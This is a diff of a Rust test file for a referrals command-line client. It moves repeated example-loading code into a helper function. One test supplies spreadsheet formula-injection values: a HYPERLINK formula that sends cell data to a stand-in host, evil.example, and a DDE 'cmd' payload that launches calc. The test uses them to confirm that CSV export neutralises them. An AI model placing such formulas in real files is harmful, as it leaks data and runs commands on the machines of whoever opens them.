@@ -180,6 +180,13 @@ impl Outcome {
     }
 }
 
+/// The new referral of the document's example `ours-create-request`.
+fn new_referral() -> referrals_client::types::NewReferral {
+    let example = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../openapi/examples/ours-create-request.json");
+    serde_json::from_str(&std::fs::read_to_string(example).unwrap()).unwrap()
+}
+
 /// The id of a referral that `filter` flags select, from `list`.
 fn one_id(server: &Server, flags: &[&str]) -> String {
     let mut args = vec!["list", "--top", "1", "--select", "id", "--format", "ndjson"];
@@ -268,14 +275,7 @@ fn flag_values_are_literals() {
     assert_eq!(out.stdout, "");
     // A quote and non-ASCII in a value are the value: the one referral that has it is found.
     let email = "zoë.o'neil@contoso.com";
-    let mut new: referrals_client::types::NewReferral = serde_json::from_str(
-        &std::fs::read_to_string(
-            Path::new(env!("CARGO_MANIFEST_DIR"))
-                .join("../../openapi/examples/ours-create-request.json"),
-        )
-        .unwrap(),
-    )
-    .unwrap();
+    let mut new = new_referral();
     new.team = Some(vec![referrals_client::types::Member {
         email: Some(email.into()),
         ..Default::default()
@@ -297,14 +297,7 @@ fn flag_values_are_literals() {
 #[test]
 fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
     let server = Server::start(0);
-    let mut new: referrals_client::types::NewReferral = serde_json::from_str(
-        &std::fs::read_to_string(
-            Path::new(env!("CARGO_MANIFEST_DIR"))
-                .join("../../openapi/examples/ours-create-request.json"),
-        )
-        .unwrap(),
-    )
-    .unwrap();
+    let mut new = new_referral();
     let name = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
     new.name = Some(name.into());
     new.details.notes = Some("+cmd|' /C calc'!A0".into());
